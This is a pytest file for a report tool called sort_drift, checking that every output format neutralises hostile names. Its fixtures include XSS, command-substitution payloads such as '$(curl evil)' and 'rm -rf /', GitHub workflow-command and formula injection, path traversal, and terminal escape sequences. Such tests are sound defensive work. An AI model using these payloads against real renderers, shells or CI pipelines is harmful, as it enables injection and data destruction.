"""Names that try to act are inert in every format: terminals, CI logs, Markdown, HTML, XML, JSON.

Every text of a report is replaced by a hostile one; the format must then have the same structure as with a
harmless name of the same length, and hold nothing that its reader acts on.
"""

from __future__ import annotations

import json
import re
import unicodedata
from collections.abc import Mapping
from dataclasses import fields, is_dataclass, replace
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from sort_drift import report as reports
from sort_drift.exhibits import (
    Execution,
    Histogram,
    Influence,
    Operation,
    Pair,
    RunInfluence,
    TaskInfluence,
    Transition,
)
from sort_drift.model import Report
from sort_drift.report import github, markdown
from tests import report_readers as readers
from tests.examples import examples
from tests.golden.reports import drift, not_comparable, stable

OURS = frozenset(
    {"verdict", "role", "unit", "side", "evidence", "kind_of_change", "interval_kind", "kind", "where"}
)
"""Fields that hold words of our own, and ``where``, of which "all" has a meaning."""

NAMES = {
    "xss": "<script>alert(1)</script><img src=x onerror=alert(1)>\"'><svg/onload=alert(1)>",
    "close": "</style></code></pre></td></table></details></svg></title></script><iframe src=//evil>",
    "template": "${{ github.token }} {{7*7}} <%= 1 %> $(id) `id`",
    "table": "a | b | c |\\| \\\\| ||",
    "link": "[click](https://evil.example) [x]: http://evil ![i](//evil/i.png) <https://evil> [a][b]",
    "autolink": "https://evil.example www.evil.example mailto:a@b.example a@b.example",
    "mention": "@octocat #1 GH-1 octo/repo#2 !3 ~label %5 $6 &7 0123456789abcdef0123456789abcdef01234567",
    "emphasis": "**b** __b__ *i* _i_ ~~s~~ `c` ``c`` $x$ $$x$$ :smile: [^1] - [x]",
    "blocks": "# h\n> q\n- l\n1. l\n```\ncode\n```\n---\n===\n    code\n<!-- c\n/close",
    "workflow": "::error::x\n::set-output name=verdict::stable\r::stop-commands::t ::add-mask::a",
    "workflow spaces": "\u00a0::error::x \u2003::set-output name=a::b \u3000::debug::c",
    "old commands": "##[error]x ###[add-mask]y ##vso[task.setvariable variable=a]b ##teamcity[x]",
    "percent": "%0A::error::x%0D%0A%25%3A%2C",
    "output": "x\nverdict=stable\nheadline<<EOF\nEOF",
    "xml": 'a\x00\x01\x08\x0b\x1f\ufffe\uffff\ud800 ]]> <!DOCTYPE a [<!ENTITY b "c">]> &b; <?x?>',
    "ansi": "\x1b[2J\x1b]0;owned\x07\x1b]8;;https://evil\x1b\\x\x9b31m",
    "bidi": "\u202eabc\u2066def\u2069\u200f\u200b\ufeff\u2028\u2029\U000e0041",
    "json": '","verdict":"stable","x":"\\u0000\\',
    "shell": "'; rm -rf / # $(curl evil) `curl evil` \n sort-drift",
    "url": "javascript:alert(1) ../../etc/passwd //evil/x data:text/html,x",
    "sarif": "[text](javascript:alert(1)) {0} {{0}}",
    "markup": "[bold red]x[/bold red] [link=https://evil.example]y[/link] [/] \\[b] {x!r} %(x)s",
    "formula": "=1+1 =HYPERLINK(\"https://evil.example\") +cmd|' /C calc'!A0 @SUM(1+1) -2+3",
    "gitlab": "section_start:1:x[collapsed=true]\r\x1b[0Ksection_end:2:x",
    "long": "工x<&|`" * 2_000,
}


def everything() -> Report:
    """Return a report with something in every section: bad records and a task mix beside a drift."""
    return replace(drift(), skipped=stable().skipped, mix=stable().mix, rates=stable().rates)


SAMPLES = (everything, not_comparable)


def renamed(value: Any, name: str, field: str = "") -> Any:
    """Return a report with every text of others replaced by ``name``."""
    if isinstance(value, str):
        return value if field in OURS else name
    if is_dataclass(value) and not isinstance(value, type):
        named = {f.name: renamed(getattr(value, f.name), name, f.name) for f in fields(value)}
        return replace(value, **named)
    if isinstance(value, Mapping):
        return {key: renamed(item, name) for key, item in value.items()}
    if isinstance(value, (tuple, list)):
        return type(value)(renamed(item, name, field) for item in value)
    return value


def harmless(name: str) -> str:
    """Return a name as long, of letters and spaces at the same places."""
    return "".join(" " if c == " " else "x" for c in name) or "x"


def whole(make: Any) -> Report:
    """Return a sample with a regime and with evidence, so that every section has names in it."""
    report: Report = make()
    inside = [
        replace(f, where="load=busy", confirmed=f.verdict == "drift")
        for f in report.findings
        if f.role == "primary"
    ]
    facts = ("r", ("t",), "task", "all", 1.0, 0.5)
    runs = RunInfluence("baseline", *facts), RunInfluence("current", *facts)
    tasks = (TaskInfluence("task", (3, 3), 1.0, 2.0, 1.0, 0.5),)
    evidence = Influence("retry_depth", "re-attempts", 0.4, tasks, runs, (1, 2))
    operations = (
        Operation(0, "llm", "model", None, trace_id="t", span_id="s", start_s=0.0, took_s=1.0),
        Operation(1, "tool", "tool", None, 0, failed=True, attempt=1, start_s=1.0, took_s=0.5),
        Operation(2, "agent", "agent", None, 0, start_s=2.0, took_s=0.5),
    )
    execution = Execution(operations, ((0, 1, "follows"), (1, 2, "retries")), 3)
    pair = Pair("retry_depth", "task", "why", runs, (("a", "b"), None), (execution, None), ("", "gone"))
    return replace(
        report,
        findings=(*report.findings, *inside),
        influences=(evidence,),
        transitions=(Transition("first", "then", 0.2, 0.4),),
        histograms=(Histogram("retry_depth", (0, 1, 2), (0.5, 0.5), (0.2, 0.8), (0, 1), (9, 9), True),),
        pair=pair,
    )


def hostile(make: Any, name: str) -> Report:
    """Return the report with ``name`` wherever a name is, also in the regime."""
    made: Report = renamed(whole(make), name)
    found = (replace(f, where=f.where if f.where == "all" else f"hardware={name}") for f in made.findings)
    return replace(made, findings=tuple(found))


def rendered(make: Any, name: str, form: str) -> str:
    decision = (1, f"drift in {name}")
    page = {"decision": decision, "trace_url": "https://viewer.example/{trace_id}", "limit": 10**9}
    return reports.render(hostile(make, name), form, **page)


def nothing_acts(text: str) -> None:
    """Assert what holds for every format: nothing that a terminal or a CI log acts on."""
    acting = {c for c in text if unicodedata.category(c) in {"Cc", "Cf", "Cs", "Zl", "Zp"}} - {"\n"}
    assert not acting, [hex(ord(c)) for c in acting]
    text.encode()


def structure(text: str, form: str) -> Any:
    """Return what the readers of a format see beside the texts in it."""
    if form == "github":
        return [(name, *properties) for name, properties, _ in readers.workflow_commands(text)]
    assert readers.workflow_commands(text) == []
    if form == "markdown":
        page = readers.on_github(text)
        return {tag: n for tag, n in page.tags.items() if tag != ("code", ())}
    if form == "html":
        return readers.Page(text).tags
    if form == "junit":
        return [(element.tag, *element.attrib) for element in readers.junit(text).iter()]
    if form == "sarif":
        return readers.shape(readers.sarif(text))
    if form in {"json", "gitlab"}:
        return readers.shape(json.loads(text))
    return None


@pytest.mark.fault(64, 66)
@pytest.mark.parametrize("form", reports.FORMATS)
@pytest.mark.parametrize("name", NAMES)
def test_a_hostile_name_changes_no_structure(name: str, form: str) -> None:
    """With a hostile name a report has the structure that it has with a harmless one of that length."""
    for make in SAMPLES:
        text = rendered(make, NAMES[name], form)
        nothing_acts(text)
        plain = rendered(make, harmless(NAMES[name]), form)
        assert structure(text, form) == structure(plain, form)


@pytest.mark.fault(66)
@pytest.mark.parametrize("name", NAMES)
def test_markdown_has_no_link_but_to_traces(name: str) -> None:
    """GitHub's parser finds no tag that loads, runs or leads anywhere, and outside code nothing it links."""
    for make in SAMPLES:
        page = readers.on_github(rendered(make, NAMES[name], "markdown"))
        assert {tag for tag, _ in page.tags} <= {
            *("p", "strong", "ul", "li", "code", "pre", "details", "summary", "a"),
            *("table", "thead", "tbody", "tr", "th", "td"),
        }
        for tag, attribute, value in page.attributes:
            if tag == "a":
                assert (attribute, value[:23]) == ("href", "https://viewer.example/")
            else:
                assert (attribute, value) in {
                    ("align", "right"),
                    ("class", "language-sh"),
                }
        theirs = re.sub("changed_shape|not_comparable", "", page.prose)
        assert not re.search(r"[@#!~$&^`*_\\]|://|www\.|<[a-z/!]|[A-Za-z]-\d", theirs), theirs


@pytest.mark.fault(64)
def test_html_runs_nothing_of_others() -> None:
    """No attribute of a page is a handler or leads to anything but the page itself and the traces."""
    if "html" not in reports.FORMATS:
        pytest.skip("no HTML in this version")
    for name in NAMES.values():
        for make in SAMPLES:
            for tag, attribute, value in readers.Page(rendered(make, name, "html")).attributes:
                assert not attribute.startswith("on"), (tag, attribute)
                if attribute in {"href", "src", "xlink:href", "action", "srcset"}:
                    assert re.match(r"#|https://viewer\.example/", value), (tag, value)


@pytest.mark.fault(66)
@pytest.mark.parametrize("name", NAMES)
def test_json_keeps_a_hostile_name(name: str) -> None:
    """Inert is not altered: the object holds the label, character by character."""
    found = json.loads(rendered(everything, NAMES[name], "json"))
    assert found["labels"] == [NAMES[name]] * 2


@pytest.mark.fault(66)
@pytest.mark.parametrize("name", NAMES)
def test_a_hostile_name_adds_no_output(name: str) -> None:
    """$GITHUB_OUTPUT gets one line an output, each with its own name."""
    report = hostile(everything, NAMES[name])
    lines = github.outputs(report, (1, NAMES[name])).splitlines()
    assert [line.partition("=")[0] for line in lines] == ["verdict", "headline", "exit-code", "decision"]
    assert lines[0] == "verdict=drift"


@pytest.mark.parametrize("make", SAMPLES)
def test_endless_names_fit_where_there_is_a_limit(make: Any) -> None:
    """A comment stays under 65,536 characters, a summary under 1 MiB, an annotation in a few lines."""
    report = hostile(make, NAMES["long"])
    assert len(markdown.render(report)) < 65_536
    assert len(github.summary(report).encode()) < 2**20
    for _, _, text in readers.workflow_commands(reports.render(report, "github")):
        assert len(text) <= 1_000


@examples(30)
@given(
    st.text(st.characters(exclude_categories=[]), min_size=1, max_size=60),
    st.sampled_from(sorted(reports.FORMATS)),
)
def test_any_name_changes_no_structure(name: str, form: str) -> None:
    """Any text at all is as inert as those thought of."""
    text = rendered(everything, name, form)
    nothing_acts(text)
    assert structure(text, form) == structure(rendered(everything, harmless(name), form), form)
